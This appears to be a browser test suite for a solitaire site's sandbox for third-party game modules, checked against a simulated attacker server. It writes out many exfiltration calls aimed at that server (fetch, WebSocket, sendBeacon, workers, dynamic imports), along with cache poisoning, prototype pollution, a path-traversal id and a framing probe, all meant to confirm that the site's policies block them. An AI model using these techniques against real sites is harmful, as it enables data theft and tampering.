/** Attacks of a stranger's module, and of a stranger's page, on the site. The attacker's server notes every request. */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { Page } from 'playwright-core';
import { Elsewhere } from './elsewhere.js';
import { dealt, Site, variants } from './site.js';

const site = new Site();
const attacker = Elsewhere.forTests();
const id = variants[0]!.id;
/** One visitor for all: the service worker takes its time to come. */
let page: Page;

beforeAll(() => site.open());
afterAll(async () => {
  await site.leave();
  await site.close();
});
let here = false;
beforeEach(async () => {
  if (!here) {
    page = await site.visit('en/add/', { serviceWorkers: 'allow' });
    await page.evaluate(async () => {
      await navigator.serviceWorker.ready;
      while (!navigator.serviceWorker.controller) await new Promise((wake) => setTimeout(wake, 30));
    });
    here = true;
  }
  attacker.requests.length = 0;
});
afterEach(async ({ task }) => {
  if (task.result?.state === 'fail') [here] = [false, await site.leave()];
  site.faults.length = 0; // what the policies stopped is logged
});

/** A patience that is sound, with one thing in it changed. */
const sound = (change = '', top = ''): string => `${top}
const words = { name: 'Trojan', summary: 'One card, two places.', rules: 'The card goes to the right.' };
const variant = {
  api: 1, id: 'trojan', rules: 1, options: {},
  deck: () => ({ suits: ['S'], ranks: [1] }),
  table: () => [
    { id: 'l', role: 'tableau', at: [0, 0], take: 'top', accept: { empty: 'any' } },
    { id: 'r', role: 'foundation', at: [1, 0], accept: { empty: 'any' } },
  ],
  deal: (table) => table.move('pack', 'l', { face: 'up' }),
  strings: { de: words, en: words },
  ${change}
};
export default variant;`;

/** Offers a module to the player. @returns what the page says */
async function offer(text: string): Promise<string> {
  const address = attacker.put('/module.js', 'text/javascript', text);
  if (!page.url().endsWith('/en/add/')) await page.goto('en/add/');
  await page.getByLabel('Address of the module').fill(address);
  await page.getByLabel('I trust').check();
  await page.getByRole('button', { name: 'Add', exact: true }).click();
  const said = page.locator('form [role=status]', { hasText: /“|This is|did not finish|There is|larger|fetched from|This browser/ });
  await said.waitFor();
  expect(attacker.requests.filter((path) => path !== '/module.js')).toEqual([]);
  expect(await page.locator('iframe').count()).toBe(0); // the cell is gone
  return said.innerText();
}

/** The site is as it was: its pages, its caches, its data. */
async function unharmed(): Promise<void> {
  const caches = await page.evaluate(async () => (await globalThis.caches.keys()).map((name) => name.replace(/^(patience-site)-.*/, '$1')));
  expect(caches.filter((name) => !['patience-site', 'patience-added'].includes(name))).toEqual([]);
  const response = await page.goto('en/games/');
  expect(await response!.text()).not.toContain('trojan');
  expect(await page.locator('.tile').count()).toBeGreaterThanOrEqual(variants.length);
  expect(await page.evaluate(() => Object.keys(localStorage).filter((key) => !key.startsWith('patience')))).toEqual([]);
}

async function remove(): Promise<void> {
  await page.goto('en/add/');
  await page.getByRole('button', { name: 'Remove Trojan' }).click();
  await page.getByText('“Trojan” was removed').waitFor();
}

describe('a module, while it is tried', () => {
  const ways = (to: string): Record<string, string> => ({
    fetch: `fetch('${to}/fetch')`,
    'fetch that outlives it': `fetch('${to}/keepalive', { keepalive: true, mode: 'no-cors', method: 'POST', body: 'x' })`,
    XHR: `(() => { const x = new XMLHttpRequest(); x.open('GET', '${to}/xhr'); x.send(); })()`,
    WebSocket: `new WebSocket('${to.replace('http', 'ws')}/socket')`,
    EventSource: `new EventSource('${to}/events')`,
    import: `import('${to}/import.js')`,
    importScripts: `importScripts('${to}/scripts.js')`,
    beacon: `navigator.sendBeacon('${to}/beacon', 'x')`,
    image: `new Image().src = '${to}/image.png'`,
    font: `new FontFace('f', 'url(${to}/font.woff2)').load()`,
    worker: `new Worker('${to}/worker.js')`,
    'worker of its own that fetches': `new Worker(URL.createObjectURL(new Blob(["fetch('${to}/nested')"])))`,
    'module worker': `new Worker(URL.createObjectURL(new Blob(["import '${to}/nested.js'"])), { type: 'module' })`,
    WebTransport: `new WebTransport('${to.replace('http', 'https')}/transport')`,
    navigation: `(location.href = '${to}/navigation')`,
    cache: `caches.open('patience-site').then((c) => c.put('/en/', new Response('mine')))`,
    database: `indexedDB.open('patience')`,
    'service worker': `navigator.serviceWorker.controller.postMessage({ ask: 'fetch', address: '${to}/asked' })`,
    storage: `localStorage.setItem('mine', '1')`,
    'its parents': `(parent.document.title = 'mine')`,
    channel: `new BroadcastChannel('patience').postMessage({ changed: ['games'] })`,
  });

  test('knows ways that lead to its server where no policy stops them', async () => {
    const { navigation: _, ...rest } = ways(attacker.address);
    const tries = Object.values(rest).map((way) => `try { Promise.resolve(${way}).catch(() => {}); } catch {}`);
    const own = await (await site.visitor()).newPage();
    await own.goto(attacker.put('/own.html', 'text/html', `<script>${tries.join('\n')}</script>`));
    const reached = 'fetch keepalive xhr socket events import.js beacon image.png font.woff2 worker.js nested'.split(' ');
    await expect.poll(() => attacker.requests).toEqual(expect.arrayContaining(reached.map((path) => `/${path}`)));
    await own.close();
  });

  test('reaches no network and no storage by any way, when it is loaded and when it is dealt', async () => {
    const tries = Object.values(ways(attacker.address)).map((way) => `try { Promise.resolve(${way}).catch(() => {}); } catch {}`);
    const all = tries.join('\n');
    expect(await offer(sound(`deal(table) { ${all} table.move('pack', 'l', { face: 'up' }); }`, all))).toContain(
      '“Trojan” is in the gallery now',
    );
    await remove();
    expect(attacker.requests.filter((path) => path !== '/module.js')).toEqual([]);
    await unharmed();
  });

  test.each([
    [
      'a verdict of its own, by every port it can find',
      sound(
        '',
        `for (const name of ['postMessage']) { MessagePort.prototype[name] = function () {}; Worker; }
      self.postMessage({ ok: true, facts: { id: 'trojan' } }); globalThis.parent?.postMessage?.({ ok: true }, '*');`,
      ),
      /“Trojan” is in the gallery now/,
    ],
    [
      'a verdict instead of a patience',
      `self.postMessage({ ok: true, facts: { id: 'x', names: {}, summaries: {}, packs: 1 }, picture: '' }); export default 1;`,
      /no patience/,
    ],
    [
      'a summary of thirty million signs',
      sound(`strings: { de: { ...words, summary: 'x'.repeat(3e7) }, en: words },`),
      /its summary is missing, too long/,
    ],
    [
      'a name of thirty million signs',
      sound(`strings: { de: { ...words, name: 'x'.repeat(3e7) }, en: words },`),
      /its name is missing, too long/,
    ],
    ['a deck of a million packs', sound(`deck: () => ({ suits: ['S'], ranks: [1], copies: 1e6 }),`), /no patience|did not finish/],
    ['facts out of range', sound(`about: { minutes: 1e300, skill: -1 },`), /its about\.\w+ is missing, too long or out of range/],
    ['an id that is a path', sound(`id: '../../sw',`), /no patience/],
    ['an id of every object', sound(`id: '__proto__',`), /no patience/],
    [
      'prototypes of everything',
      sound(
        '',
        `Object.prototype.ok = true; Object.prototype.facts = { id: 'sw' }; Array.prototype.map = () => []; Promise.prototype.then = () => {}; JSON.stringify = () => '';`,
      ),
      /“|no patience|did not finish/,
    ],
    [
      'something thrown whose words throw',
      sound(`deal() { throw { toString() { throw new Error('again'); }, get message() { throw 1; } }; },`),
      /This is no patience/,
    ],
    [
      'an error whose message is thirty million signs',
      sound(`deal() { throw new Error('x'.repeat(3e7)); },`),
      /This is no patience: .{1,400}$/,
    ],
    ['an end of its worker', sound('', 'self.close();'), /did not finish|“Trojan”/],
    ['a loop without an end when it is loaded', 'for (;;);', /did not finish/],
    ['a loop without an end in its table', sound(`table: () => { for (;;); },`), /did not finish/],
    ['a promise that never ends', 'await new Promise(() => {}); export default 1;', /did not finish/],
  ])('brings %s: the page is alive and unharmed', async (_name, text, said) => {
    const words = await offer(text);
    expect(words).toMatch(said);
    expect(words.length).toBeLessThan(500);
    if (words.includes('in the gallery now'))
      await page
        .getByRole('button', { name: /^Remove / })
        .first()
        .click();
    await page.locator('.own li').waitFor({ state: 'detached' });
    await unharmed();
  });

  test('is played as it was tried, whatever its server sends later', async () => {
    await offer(sound());
    attacker.put('/module.js', 'text/javascript', 'throw new Error("changed")');
    await page.goto('en/play/?variant=trojan');
    await dealt(page);
    expect(attacker.requests).toEqual(['/module.js']);
    await remove();
  });
});

describe('the site', () => {
  test('hands out nothing that somebody else put into its cache', async () => {
    await page.evaluate(async () => {
      const name = (await caches.keys()).find((one) => one.startsWith('patience-site'))!;
      const poison = (): Response => new Response('<title>mine</title>', { headers: { 'Content-Type': 'text/html' } });
      const cache = await caches.open(name);
      for (const path of ['index.html', 'en/index.html', 'en/never/index.html', 'en/', 'never.html'])
        await cache.put(
          new URL(
            path,
            document.documentElement.dataset['root'] === undefined
              ? location.href
              : new URL(document.documentElement.dataset['root'], location.href),
          ),
          poison(),
        );
      await (await caches.open('mine')).put('/en/', poison());
    });
    await page.goto('en/');
    await dealt(page);
    expect(await page.title()).not.toContain('mine');
    for (const path of ['en/never/', 'never.html']) expect((await page.goto(path))!.status()).toBe(404);
    await page.evaluate(() => caches.delete('mine'));
  });

  test('gives its policy to pages, scripts and workers, from the server and from the service worker', async () => {
    const script = await page.goto(`en/play/${id}/?seed=3`).then(() => page.locator('script[type=module]').getAttribute('src'));
    await dealt(page);
    const address = new URL(script!, page.url()).href;
    const policies = [
      (await page.request.get(address)).headers()['content-security-policy'],
      await page.evaluate(async (from) => (await fetch(from)).headers.get('Content-Security-Policy'), address),
      await page.evaluate(async () => (await fetch(location.href)).headers.get('Content-Security-Policy')),
    ];
    for (const policy of policies) expect(policy).toMatch(/default-src 'none'.*connect-src 'self'.*frame-ancestors 'none'/);
    const [worker] = await Promise.all([
      page.waitForEvent('worker'),
      page.locator('patience-game').evaluate(async (element: HTMLElement & { hint(): Promise<unknown>; adviser?: unknown }) => {
        while (!element.adviser) await new Promise((wake) => setTimeout(wake, 20));
        await element.hint();
      }),
    ]);
    // As a text: what compiles the tests would change the import.
    const tried = await worker.evaluate<string[]>(`(async () => {
      const outcome = (way) => way.then(() => 'reached', () => 'refused');
      return [await outcome(fetch('${attacker.address}/worker')), await outcome(import('${attacker.address}/worker.js'))];
    })()`);
    expect(tried).toEqual(['refused', 'refused']);
    expect(attacker.requests).toEqual([]);
  });

  test('fetches from elsewhere for the page where a game is added, and for no other', async () => {
    const ask = (): Promise<string> =>
      page.evaluate((address) => {
        const { port1, port2 } = new MessageChannel();
        navigator.serviceWorker.controller!.postMessage({ ask: 'fetch', address }, [port2]);
        return Promise.race([
          new Promise<string>((done) => (port1.onmessage = () => done('answered'))),
          fetch(location.href)
            .then(() => fetch(location.href))
            .then(() => 'silent'), // the worker has heard it by now
        ]);
      }, `${attacker.address}/asked`);
    for (const path of ['en/', 'en/games/', `en/play/${id}/`, 'en/watch/']) {
      await page.goto(path);
      expect(await ask()).toBe('silent');
    }
    expect(attacker.requests).toEqual([]);
  });

  test('can be put into a frame where it is made for it, and nowhere else', async () => {
    for (const [path, shown] of [
      [`embed/?variant=${id}`, true],
      ['en/', false],
      ['en/settings/', false],
      ['cell/', false],
    ] as const) {
      const own = await (await site.visitor()).newPage();
      await own.goto(attacker.put('/framing.html', 'text/html', `<iframe src="${site.address}${path}"></iframe>`));
      const [, frame] = own.frames();
      expect([path, frame!.url().startsWith(site.address)]).toEqual([path, shown]);
    }
  });

  test('forgets everything when the player says so, whoever put it there', async () => {
    await page.goto(`en/play/${id}/?seed=3`);
    await dealt(page);
    await page.evaluate(async () => {
      await (await caches.open('mine')).put('/x', new Response('x'));
      localStorage.setItem('mine', 'x');
      sessionStorage.setItem('mine', 'x');
      await new Promise((done) => (indexedDB.open('mine').onsuccess = ({ target }) => done((target as IDBOpenDBRequest).result.close())));
    });
    await page.goto('en/settings/');
    await page.getByRole('button', { name: 'Delete everything' }).click();
    await page.getByRole('button', { name: 'Yes, delete' }).click();
    await page.getByText('deleted', { exact: false }).last().waitFor();
    const left = await page.evaluate(async () => ({
      caches: await caches.keys(),
      storage: [...Object.keys(localStorage), ...Object.keys(sessionStorage)],
      databases: (await indexedDB.databases()).map(({ name }) => name).filter((name) => name !== 'patience'),
      workers: (await navigator.serviceWorker.getRegistrations()).length,
    }));
    expect(left).toEqual({ caches: [], storage: [], databases: [], workers: 0 });
    here = false;
    await site.leave();
  });
});
